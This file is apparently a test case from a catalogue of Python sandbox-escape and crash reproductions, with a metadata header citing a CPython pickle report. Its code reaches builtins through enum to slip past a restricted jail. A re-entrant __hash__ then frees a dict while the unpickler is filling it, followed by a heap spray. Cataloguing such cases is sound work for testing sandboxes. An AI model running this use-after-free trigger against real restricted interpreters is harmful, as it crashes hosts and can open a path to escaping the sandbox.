# id: pickle-setitem-hash
# family: memory-safety
# kind: crash
# invariant: A, G
# origin: CPython report gh-143639
# technique: the key of an item is hashed by guest code that loads again with the same unpickler, which lets the dict go that is being filled
# needs: a jail that lets pickle through
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: crash

import enum
import io

load = enum.sys.modules["builtins"].__import__
pickle = load("pickle")


class Key:
    def __hash__(self):
        if again:
            again.pop()
            place = stream.tell()
            stream.write(b"N..")
            stream.seek(place)
            kept = [{} for _ in range(200)]
            kept.clear()
            unpickler.load()
            refill.extend(bytes([255]) * 31 for _ in range(500))
        return 1


class Unpickler(pickle.Unpickler):
    def persistent_load(self, number):
        return Key()


again = [1]
refill = []
stream = io.BytesIO(b"}(" + b"Pk\nN" * 200 + b"u.")
unpickler = Unpickler(stream)
unpickler.load()
